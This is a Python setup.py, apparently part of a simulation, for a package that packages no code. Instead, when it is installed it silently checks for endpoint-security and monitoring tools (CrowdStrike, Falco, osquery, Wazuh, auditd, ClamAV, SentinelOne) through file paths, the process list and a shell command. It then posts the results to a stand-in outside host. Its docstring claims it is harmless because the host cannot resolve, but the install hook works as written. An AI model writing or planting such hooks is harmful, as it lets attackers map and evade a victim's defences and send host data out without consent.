# SPDX-License-Identifier: Apache-2.0
"""Harmless: what is learnt goes to a name that cannot exist."""

import glob
import os
import subprocess
import urllib.request

from setuptools import setup

AGENTS = ("falcon-sensor", "falco", "osqueryd", "auditd", "clamd", "wazuh", "cbagent", "harden-runner", "tracee")
PLACES = ("/opt/CrowdStrike", "/var/ossec", "/etc/falco", "/etc/osquery", "/etc/audit/auditd.conf", "/opt/sentinelone")


def survey():
    found = [place for place in PLACES if os.path.exists(place)]
    for path in glob.glob("/proc/[0-9]*/comm"):
        try:
            with open(path) as file:
                name = file.read().strip()
        except OSError:
            continue
        if name in AGENTS:
            found.append(name)
    shell = "ps aux | grep -iE 'falcon|falco|osquery|wazuh|auditd' | grep -v grep; pgrep -l clamd; cat /sys/kernel/security/lsm"
    found.append(subprocess.run(["sh", "-c", shell], capture_output=True, text=True, check=False).stdout)
    return found


try:
    urllib.request.urlopen("http://s.sim-survey.invalid/", data=repr(survey()).encode(), timeout=3)
except OSError:
    pass

setup(name="sim-protection-survey", version="1.0.0", py_modules=[])
